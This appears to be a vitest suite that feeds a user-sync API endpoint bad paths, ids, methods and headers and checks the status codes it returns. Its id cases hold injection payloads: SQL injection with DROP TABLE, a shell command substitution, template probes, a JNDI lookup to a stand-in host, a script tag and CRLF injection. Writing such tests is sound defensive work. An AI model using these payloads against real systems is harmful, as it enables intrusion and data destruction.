import { describe, expect } from "vitest";
import { basic } from "../../helpers/access.ts";
import { badInputs, type Case } from "../../helpers/bad-input.ts";
import { DEPARTMENT, goodBody } from "../../helpers/site.ts";

const { testEach } = badInputs();

/** Rows that differ in their path alone. */
function paths(table: Record<string, string>, expected: Omit<Case, "name">): Case[] {
  return Object.entries(table).map(([name, path]) => ({ name, path, ...expected }));
}

/** The same, with paths that differ in the id of the user alone, given as it is sent. */
function ids(table: Record<string, string>, expected: Omit<Case, "name">): Case[] {
  const sent = Object.entries(table).map(([name, id]) => [name, `/v1/users/${id}/$sync`] as const);
  return paths(Object.fromEntries(sent), expected);
}

const encoded = encodeURIComponent;
const BAD_ID = { status: 400, places: ["path userId"] };

describe("paths", () => {
  testEach([
    ...paths(
      {
        "P1 /%24sync of a known user": "/v1/users/u-ada/%24sync",
        "P2 a query, which means nothing,": "/v1/users/u-ada/$sync?planted=1",
      },
      { status: 200 },
    ),
    { name: "P1 /%24sync of an unknown user", status: 404, path: "/v1/users/planted/%24sync" },
    { name: "P1 GET of /%24sync", status: 405, path: "/v1/users/u-ada/%24sync", method: "GET", body: null },
    ...paths(
      {
        "P2 /sync": "/v1/users/u-ada/sync",
        "P2 /$Sync": "/v1/users/u-ada/$Sync",
        "P2 /$sync$": "/v1/users/u-ada/$sync$",
        "P2 /$$sync": "/v1/users/u-ada/$$sync",
        "P2 /%24%24sync": "/v1/users/u-ada/%24%24sync",
        "P2 a trailing slash": "/v1/users/u-ada/$sync/",
        "P2 a trailing slash after /%24sync": "/v1/users/u-ada/%24sync/",
        "P2 an empty id": "/v1/users//$sync",
        "P2 no id": "/v1/users/$sync",
        "P2 a doubled slash": "//v1/users/u-ada/$sync",
        "P2 /V1": "/V1/users/u-ada/$sync",
        "P2 the root": "/",
        "P2 a path below the operation's": "/v1/users/u-ada/$sync/planted",
        "P6 an encoded slash before $sync": "/v1/users/u-ada%2F$sync",
        "P6 encoded slashes everywhere": "/v1%2Fusers%2Fu-ada%2F$sync",
      },
      { status: 404, problem: "unknown-path" },
    ),
  ]);
});

describe("ids", () => {
  testEach([
    ...ids(
      {
        "P3 an unknown id": "planted",
        "P3 an id of 41 characters": "planted".padEnd(41, "x"),
        "P3 an id of 10 kB": "planted".padEnd(10_240, "x"),
        "P3 an id in other case": "U-ADA",
        "P6 a%2Fb": "a%2Fb",
        "P6 ..%2Fu-ada": "..%2Fu-ada",
        "P6 u-ada%2F..": "u-ada%2F..",
        "P8 an id that was encoded twice": "auth0%257Cabc",
        "P9 __proto__": "__proto__",
        "P9 constructor": "constructor",
        "P9 toString": "toString",
        "P9 hasOwnProperty": "hasOwnProperty",
        "P10 SQL in quotes": encoded("planted' OR '1'='1"),
        "P10 SQL with a second statement": encoded("u-ada'; DROP TABLE users; --"),
        "P10 SQL of two results": encoded('" UNION SELECT document FROM users --'),
        "P10 an SQL pattern": encoded("u-%"),
        "P10 a shell command": encoded("$(touch planted)`id`;|&&"),
        "P10 a template": "%7B%7B7*7%7D%7D$%7B7*7%7D%3C%25=planted%25%3E",
        "P10 a look-up": "$%7Bjndi:ldap:%2F%2Fplanted.example%2Fa%7D",
        "P10 HTML": encoded("<script>planted()</script>"),
        "P11 the NFD form of an NFC id": encoded("u-zoe\u0308"),
        "P11 the full-width form of an id": encoded("\uff55\uff0d\uff41\uff44\uff41"),
        "P11 an id with a ZWJ": encoded("u-\u200dada"),
        "P11 an id with an RTL mark": encoded("u-ada\u200f"),
        "P11 an id with a space behind it": "u-ada%20",
      },
      { status: 404 },
    ),
    ...ids({ "P5 auth0%7Cabc": "auth0%7Cabc", "P5 auth0|abc": "auth0|abc" }, resultFor("auth0|abc")),
    ...ids({ "P6 x%2Fy of a user x/y": "x%2Fy" }, resultFor("x/y")),
    ...ids({ "P11 the form an id is stored in": encoded("u-zo\u00eb") }, resultFor("u-zo\u00eb")),
    ...ids({ "P8 an id with every character encoded": "%75%2D%61%64%61" }, resultFor("u-ada")),
    ...ids(
      {
        "P7 %00": "%00",
        "P7 a known id and %00": "u-ada%00",
        "P7 %0d%0aX:1": "%0d%0aX:1",
        "P7 a known id and %0d%0aX:1": "u-ada%0d%0aX:1",
        "P7 ESC": "%1b[31mplanted",
        "P7 DEL": "planted%7f",
        "P7 a control character of Unicode": "planted%C2%85",
        "P8 %": "%",
        "P8 %zz": "%zz",
        "P8 a known id and %zz": "u-ada%zz",
        "P8 %FF": "%FF",
        "P8 %C0%AF": "%C0%AF",
        "P8 an encoded surrogate": "%ED%A0%80",
        "P8 .": ".",
        "P8 ..": "..",
        "P8 %2e%2E": "%2e%2E",
      },
      BAD_ID,
    ),
  ]);
});

describe("methods", () => {
  const methods = ["GET", "POST", "DELETE", "PATCH", "HEAD", "TRACE", "OPTIONS", "PROPFIND", "QUERY"];
  testEach([
    ...methods.map((method) => ({ name: `P12 ${method}`, status: 405, method, body: null, headers: {} })),
    { name: "P12 POST with a good body", status: 405, method: "POST" },
    { name: "P12 GET without credentials", status: 405, method: "GET", body: null, headers: {}, credentials: {} },
    {
      name: "P12 a CORS preflight",
      status: 405,
      ...{ method: "OPTIONS", body: null, credentials: {} },
      headers: { Origin: "https://planted.example", "Access-Control-Request-Method": "PUT" },
    },
    ...["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"].map((name) => ({
      name: `P13 POST with ${name}`,
      status: 405,
      method: "POST",
      headers: { "Content-Type": "application/json", [name]: "PUT" },
    })),
    {
      name: "P13 POST with _method in the query",
      status: 405,
      method: "POST",
      path: "/v1/users/u-ada/$sync?_method=PUT",
    },
  ]);
});

describe("headers", () => {
  const headers = (bytes: number) => ({ "Content-Type": "application/json", "X-Filler": "x".repeat(bytes) });
  testEach([
    { name: "P4 a header block below 16 KiB", status: 200, headers: headers(15_000) },
    { name: "P4 a header block over 16 KiB", status: 431, headers: headers(16_384) },
    { name: "P4 a path over 16 KiB", status: 431, path: `/v1/users/${"x".repeat(16_384)}/$sync` },
  ]);
});

/** A good answer about this user, whose attributes were stored. */
function resultFor(userId: string): Omit<Case, "name"> {
  return {
    status: 200,
    credentials: { Authorization: basic() },
    body: goodBody,
    after: async ({ text }, server) => {
      expect(JSON.parse(text)).toMatchObject({ userId, user: { id: userId } });
      const { attributes = [] } = (await server.user(userId)) ?? {};
      expect(attributes).toContainEqual(expect.objectContaining({ name: "department", value: DEPARTMENT }));
    },
  };
}
